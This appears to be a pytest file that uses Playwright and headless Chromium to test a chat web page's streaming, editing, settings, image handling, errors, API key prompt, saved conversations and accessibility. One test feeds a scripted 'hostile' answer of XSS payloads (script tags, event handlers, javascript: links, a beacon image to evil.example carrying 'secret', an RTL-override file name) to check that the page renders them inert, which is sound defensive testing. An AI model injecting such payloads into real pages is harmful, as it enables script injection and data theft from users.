"""The chat page in headless Chromium: with `gemworks serve tiny`, and with answers that no model would give."""

import base64
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from PIL import Image

playwright = pytest.importorskip("playwright.sync_api", reason="no playwright (pip install gemworks[dev])")

from chat_page_server import Answer, PageServer  # noqa: E402 - needs the extra [serve]
from chat_page_tab import Tab, jpeg, png, texts, until  # noqa: E402 - needs playwright

expect = playwright.expect
FLAGS = (
    *("--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if program is None:
        pytest.skip("no chromium on PATH (Debian: apt install chromium)")
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=program, args=list(FLAGS))
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def double() -> Iterator[PageServer]:
    server = PageServer()
    server.start()
    yield server
    server.close()


# --- with the embedded model ----------------------------------------------------------------------------------------


def test_a_conversation_with_a_picture(browser, server):
    """The real server: an answer streams, is measured, and is there again after a reload."""
    tab = Tab(browser, server.url, preferences={"parameters": {"max_tokens": 24}})
    page = tab.page
    expect(page.locator("#model")).to_have_value("tiny")
    page.set_input_files("#files", [png("red")])
    expect(page.locator("#tray img")).to_have_count(1)
    tab.ask("What is in this picture?")
    answer = page.locator(".answer")
    expect(answer.locator(".body")).not_to_be_empty()
    assert answer.locator(".error-card").count() == 0, answer.inner_text()
    stats = answer.locator(".stats").inner_text()
    assert "first token" in stats and "tokens" in stats and "cached" in stats, stats
    assert re.search(r"\d+ of [\d,]+ tokens", page.locator("#context").inner_text())
    tab.ask("And now?")
    assert page.locator(".message").count() == 4
    before = texts(page, ".message .body")
    tab.open(page.url.removeprefix(server.url))
    expect(page.locator(".message")).to_have_count(4)
    assert texts(page, ".message .body") == before
    expect(page.locator(".thumbnail img")).to_have_js_property("naturalWidth", 64)
    tab.close()


def test_the_page_is_served_with_its_policy(server):
    told = httpx.get(server.url + "/").headers
    assert "script-src 'self'" in told["content-security-policy"] and told["x-content-type-options"] == "nosniff"


# --- with scripted answers ------------------------------------------------------------------------------------------


def test_stop_keeps_what_arrived_and_ends_the_request(browser, double):
    double.reset(Answer("word " * 400, size=5, pause_s=0.02))
    tab = Tab(browser, double.url)
    page = tab.page
    page.fill("#question", "Talk")
    page.press("#question", "Enter")
    expect(page.locator(".answer .body")).to_contain_text("word " * 8)
    page.keyboard.press("Escape")
    expect(page.locator(".answer .note")).to_have_text("Stopped.")
    kept = page.locator(".answer .body").inner_text()
    assert kept.startswith("word word") and len(kept) < 1900
    tab.wait_for_end()
    until(lambda: double.stopped == 1)
    assert page.locator(".answer .body").inner_text() == kept
    tab.close()


def test_edit_and_again_make_versions(browser, double):
    double.reset(Answer("first"), Answer("second"), Answer("third"))
    tab = Tab(browser, double.url)
    page = tab.page
    tab.ask("One")
    page.locator(".question").hover()
    page.click("[aria-label='Edit and send again']")
    page.fill(".edit textarea", "Two")
    page.press(".edit textarea", "Enter")
    expect(page.locator(".answer .body")).to_have_text("second")
    assert texts(page, ".bubble") == ["Two"]
    assert double.requests[-1]["messages"] == [{"role": "user", "content": "Two"}]
    expect(page.locator(".question .count")).to_have_text("2 / 2")
    page.click(".answer [aria-label='Answer again']")
    expect(page.locator(".answer .body")).to_have_text("third")
    page.click(".answer [aria-label='Previous version']")
    expect(page.locator(".answer .body")).to_have_text("second")
    page.click(".question [aria-label='Previous version']")
    expect(page.locator(".answer .body")).to_have_text("first")
    tab.close()


def test_parameters_and_system_prompt_are_sent(browser, double):
    double.reset()
    tab = Tab(browser, double.url)
    page = tab.page
    assert texts(page, "#model option") == ["sees", "blind"]  # a model that only embeds does not chat
    page.click("#open-settings")
    page.fill("[name=system]", "Be brief.")
    page.fill("[name=temperature]", "0.5")
    page.fill("[name=top_k]", "40")
    page.fill("[name=max_tokens]", "77")
    page.fill("[name=seed]", "3")
    page.fill("[name=top_p]", "7")  # out of range: marked, not sent
    assert page.evaluate("document.querySelector('[name=top_p]').validity.valid") is False
    page.keyboard.press("Escape")
    tab.ask("Hi")
    sent = double.requests[0]
    assert sent["messages"][0] == {"role": "system", "content": "Be brief."}
    told = {name: sent.get(name) for name in ("temperature", "top_p", "top_k", "max_tokens", "seed", "model", "stream")}
    assert told == {
        **{"temperature": 0.5, "top_p": None, "top_k": 40, "max_tokens": 77, "seed": 3},
        **{"model": "sees", "stream": True},
    }
    assert sent["stream_options"] == {"include_usage": True}
    tab.close()


@pytest.mark.exhaustive
def test_pictures_are_shrunk_dropped_pasted_and_refused(browser, double):
    double.reset()
    tab = Tab(browser, double.url)
    page = tab.page
    page.set_input_files("#files", [jpeg((4000, 1000)), png("blue")])
    expect(page.locator("#tray img")).to_have_count(2)
    for kind, target in (("drop", "window"), ("paste", "document.getElementById('question')")):
        page.evaluate(
            f"""async ([kind, bytes]) => {{
                const files = new DataTransfer();
                files.items.add(new File([Uint8Array.from(bytes)], "by-{kind}.png", {{ type: "image/png" }}));
                const event = kind === "drop"
                    ? new DragEvent("drop", {{ dataTransfer: files, cancelable: true }})
                    : new ClipboardEvent("paste", {{ clipboardData: files, cancelable: true }});
                {target}.dispatchEvent(event);
            }}""",
            [kind, list(png("green")["buffer"])],
        )
    expect(page.locator("#tray img")).to_have_count(4)
    page.set_input_files("#files", [{"name": "x.pdf", "mimeType": "application/pdf", "buffer": b"%PDF"}])
    expect(page.locator("#toast")).to_contain_text("x.pdf is not a picture.")
    page.click("[aria-label='Remove blue.png']")
    tab.ask("Look")
    [message] = double.requests[0]["messages"]
    assert [part["type"] for part in message["content"]] == ["image_url"] * 3 + ["text"]
    sizes = []
    for part in message["content"][:3]:
        head, _, data = part["image_url"]["url"].partition(",")
        sizes.append((head, Image.open(io.BytesIO(base64.b64decode(data))).size))
    kept = ("data:image/png;base64", (64, 48))
    assert sizes == [("data:image/jpeg;base64", (1792, 448)), kept, kept]
    page.select_option("#model", "blind")
    page.set_input_files("#files", [png()])
    expect(page.locator("#toast")).to_contain_text("blind does not see pictures")
    assert page.locator("#tray img").count() == 0
    tab.close()


HOSTILE = """<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>
<a href="javascript:window.hacked=4">a</a>

[click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>) <javascript:window.hacked=7>
[split](java&#10;script:alert(1)) ![beacon](https://evil.example/pixel?q=secret) ![local](/v1/models)
[ok](https://example.com/ "onmouseover=alert(1)") \u202egnp.exe\u202c

<iframe src="https://evil.example"></iframe><style>*{display:none}</style><base href="https://evil.example/">

| a | b |
|---|---|
"""
HOSTILE_END = """

> > > > > > > > > > quoted
> - 1. - 2. - deep

\u05e9\u05dc\u05d5\u05dd

```html
<script>window.hacked = 8</script>
never closed \u202e txt"""


def test_a_hostile_answer_is_only_text(browser, double):
    """Scripts, handlers, javascript: links, pictures elsewhere, a table of 600 rows, an open fence, reordered text."""
    rows = "".join(f"| {i} | <b onclick=alert({i})>x</b> |\n" for i in range(600))
    double.reset(Answer(HOSTILE + rows + HOSTILE_END, size=400))
    tab = Tab(browser, double.url)
    page = tab.page
    tab.ask("Be evil")
    body = page.locator(".answer .body")
    assert page.evaluate("window.hacked") is None
    found = "script, img, svg:not(.icon), iframe, style, base, link, object, embed, [onerror], [onclick], [style]"
    assert body.locator(found).count() == 0
    links = body.locator("a").evaluate_all("all => all.map((a) => [a.href, a.rel, a.target])")
    safe = ["noopener noreferrer nofollow", "_blank"]
    addresses = ("evil.example/pixel?q=secret", "example.com/", "evil.example/", "evil.example/")
    assert links == [[f"https://{address}", *safe] for address in addresses]
    assert texts(page, ".answer .refused") == ["click", "data", "javascript:window.hacked=7", "split", "Image: local"]
    assert body.locator("tr").count() == 601
    assert "<script>window.hacked = 1</script>" in body.inner_text()
    assert body.locator(".code pre").inner_text().startswith("<script>window.hacked = 8</script>\nnever closed")
    assert set(body.locator(".mark").evaluate_all("all => all.map((mark) => mark.dataset.code)")) == {"U+202E"}
    assert (
        page.evaluate("getComputedStyle([...document.querySelectorAll('.answer .body > p')].at(-1)).direction") == "rtl"
    )
    # A title made of the question takes no markup either.
    tab.ask("<img src=x onerror=alert(1)>")
    tab.close()


@pytest.mark.exhaustive
def test_an_answer_grows_without_being_rebuilt(browser, double):
    """A block that is complete stays the same element with its selection, and reading further up is not disturbed."""
    lines = "\n".join(f"line {i} = call({i})" for i in range(60))
    text = f"# Title\n\nFirst *paragraph*.\n\n```py\n{lines}\n```\n\n" + "More text here. " * 120
    double.reset(Answer(text, size=24, pause_s=0.012))
    tab = Tab(browser, double.url, viewport={"width": 900, "height": 420})
    page = tab.page
    page.fill("#question", "Grow")
    page.press("#question", "Enter")
    expect(page.locator(".answer pre")).to_have_count(1)
    page.evaluate(
        """() => {
            window.kept = [...document.querySelectorAll(".answer .body > *")].slice(0, 3);
            getSelection().selectAllChildren(window.kept[1]);
        }"""
    )
    expect(page.locator(".answer pre")).to_contain_text("line 59")
    page.mouse.move(450, 200)
    page.mouse.wheel(0, -400)
    page.wait_for_timeout(150)
    place = page.evaluate("document.getElementById('scroller').scrollTop")
    tab.wait_for_end()
    now = page.evaluate(
        "[...document.querySelectorAll('.answer .body > *')].slice(0, 3).map((e, i) => e === window.kept[i])"
    )
    assert now == [True, True, True]
    assert page.evaluate("getSelection().toString()").strip() == "First paragraph."
    assert abs(page.evaluate("document.getElementById('scroller').scrollTop") - place) < 2
    assert page.locator(".answer pre").inner_text().strip() == lines
    expect(page.locator("#to-end")).to_be_visible()
    tab.close()


def test_errors_say_what_to_do(browser, double):
    """A cut connection keeps the answer; 429 counts down and asks again by itself; 503 and an error inside a stream."""
    double.reset(
        Answer("Half of an", size=3, cut=True),
        Answer(status=429, message="Key a is over its limit.", headers={"retry-after": "2"}),
        Answer("It went well."),
        Answer(status=503, message="The server is stopping."),
        Answer("Then ", late_error="The engine failed."),
        Answer("Good."),
    )
    tab = Tab(browser, double.url)
    page = tab.page
    tab.ask("One")
    card = page.locator(".answer").last.locator(".error-card")
    expect(card).to_contain_text("The answer was cut off")
    expect(page.locator(".answer .body")).to_have_text("Half of an")
    card.get_by_role("button", name="Try again").click()
    expect(card).to_contain_text("Trying again in 2 s.")
    expect(page.locator(".answer .body")).to_have_text("It went well.")
    expect(page.locator(".answer .count")).to_have_text("3 / 3")
    tab.ask("Two")
    expect(card).to_contain_text("The server is stopping.")
    expect(card).to_contain_text("req-9")
    card.get_by_role("button", name="Try again").click()
    expect(card).to_contain_text("The engine failed.")
    card.get_by_role("button", name="Try again").click()
    expect(page.locator(".answer .body").last).to_have_text("Good.")
    assert double.requests[-1]["messages"][1] == {"role": "assistant", "content": "It went well."}
    tab.close("status of 429", "status of 503")


def test_a_key_is_asked_for_and_sent(browser, double):
    double.reset(key="secret")
    tab = Tab(browser, double.url)
    page = tab.page
    expect(page.locator(".welcome")).to_contain_text("API key")
    page.fill(".key-form input[type=password]", "secret")
    page.click(".key-form button")
    expect(page.locator("#model")).to_have_value("sees")
    tab.ask("Hello")
    expect(page.locator(".answer .body")).to_have_text("Fine.")
    stored = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}])")
    assert "secret" not in json.dumps(json.loads(stored)[0])  # this tab only, unless it is told to be kept
    double.key = "other"
    tab.ask("Again")
    expect(page.locator(".error-card")).to_contain_text("API key")
    page.fill(".error-card input[type=password]", "other")
    page.click(".error-card button")
    expect(page.locator(".answer").last.locator(".body")).to_have_text("Fine.")
    tab.close("status of 401")


@pytest.mark.exhaustive
def test_conversations_are_kept_found_renamed_deleted_and_moved(browser, double, tmp_path):
    double.reset(Answer("The capital is Tbilisi."), Answer("Blue."), Answer("More."))
    tab = Tab(browser, double.url)
    page = tab.page
    tab.ask("Capital of Georgia?")
    page.keyboard.press("Control+Shift+O")
    page.set_input_files("#files", [png("blue")])
    expect(page.locator("#tray img")).to_have_count(1)
    tab.ask("Which colour?")
    assert sorted(texts(page, "#conversations a")) == ["Capital of Georgia?", "Which colour?"]
    page.keyboard.press("Control+k")
    page.keyboard.type("tbilisi")
    expect(page.locator("#conversations a")).to_have_count(1)
    page.keyboard.press("Enter")
    expect(page.locator(".answer .body")).to_have_text("The capital is Tbilisi.")
    page.fill("#search", "")
    page.locator("#conversations li", has_text="Capital").hover()
    page.click("[aria-label='Rename Capital of Georgia?']")
    page.keyboard.type("Cities\u202e")
    page.keyboard.press("Enter")
    expect(page.locator("#title")).to_have_text("Cities")
    page.click("#open-settings")
    with page.expect_download() as waiting:
        page.click("#export-all")
    file = Path(waiting.value.path())
    exported = json.loads(file.read_text(encoding="utf-8"))
    assert sorted(one["title"] for one in exported["conversations"]) == ["Cities", "Which colour?"]
    page.keyboard.press("Escape")
    page.locator("#conversations li", has_text="Which colour?").hover()
    page.click("[aria-label='Delete Which colour?']")
    expect(page.locator("#conversations a")).to_have_count(1)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator("#conversations a")).to_have_count(2)
    page.click("#open-settings")
    page.click("#delete-all")
    page.click("#ask button[value=delete]")
    expect(page.locator("#conversations a")).to_have_count(0)
    page.set_input_files("#import-file", file)
    expect(page.locator("#conversations a")).to_have_count(2)
    page.click("#conversations a:has-text('Which colour?')")
    expect(page.locator(".thumbnail img")).to_have_js_property("naturalWidth", 64)
    tab.ask("More")
    assert "image_url" in json.dumps(double.requests[-1]["messages"][0])
    tab.close()


def violations(page: Any) -> list[str]:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="no axe-playwright-python")
    found = axe.Axe().run(page).response["violations"]
    return [
        f"{rule['id']}: {node['html'][:200]} {node['failureSummary'][:300]}" for rule in found for node in rule["nodes"]
    ]


LONG = """# A

Text with `code`, [a link](https://a.b/) and $x^2$.

- [x] one

> quote

| a | b |
|---|---|
| c | d |

```py
x = 1  # y
```
"""


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing(browser, double, theme):
    """Empty page, a conversation with an error, and the settings. The test brings axe in; the page forbids it."""
    double.reset(Answer(LONG, size=200), Answer(status=503, message="Not now."))
    tab = Tab(browser, double.url, color_scheme=theme, bypass_csp=True, reduced_motion="reduce")
    page = tab.page
    if theme == "light":
        assert violations(page) == []
    tab.ask("Show me")
    tab.ask("Fail")
    assert violations(page) == []
    page.click("#open-settings")
    if theme == "dark":
        assert violations(page) == []
    page.check(f"[name=theme][value={'dark' if theme == 'light' else 'light'}]", force=True)
    ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (sum(map(int, re.findall(r"\d+", ground)[:3])) < 300) is (theme == "light")
    tab.close("status of 503", "Trusted Types", "TrustedScript")


def test_a_narrow_window_has_a_drawer(browser, double):
    double.reset(Answer(LONG + "\n\n" + "wide" * 100, size=200))
    tab = Tab(browser, double.url, viewport={"width": 360, "height": 740}, has_touch=True, is_mobile=True)
    page = tab.page
    expect(page.locator("#sidebar")).to_be_hidden()
    tab.ask("Show me a lot of things that are longer than a narrow window is wide")
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    assert page.evaluate(
        "document.getElementById('scroller').scrollWidth <= document.getElementById('scroller').clientWidth"
    )
    page.click("#menu")
    expect(page.locator("#sidebar")).to_be_visible()
    assert page.evaluate("document.getElementById('page').inert")
    page.keyboard.press("Escape")
    expect(page.locator("#sidebar")).to_be_hidden()
    assert page.evaluate("document.activeElement.id") == "menu"
    assert page.evaluate("[...document.querySelectorAll('header button')].every((b) => b.offsetWidth >= 36)")
    tab.close()


def test_listeners_hear_the_answer_in_paragraphs(browser, double):
    double.reset(Answer("First paragraph.\n\nSecond *one*.", size=4, pause_s=0.01))
    tab = Tab(browser, double.url)
    tab.ask("Read to me")
    spoken = tab.page.locator("#spoken")
    assert spoken.get_attribute("aria-live") == "polite"
    assert texts(tab.page, "#spoken p") == ["First paragraph.", "Second one."]
    assert tab.page.locator("#notices").inner_text() == "Answer complete."
    tab.close()
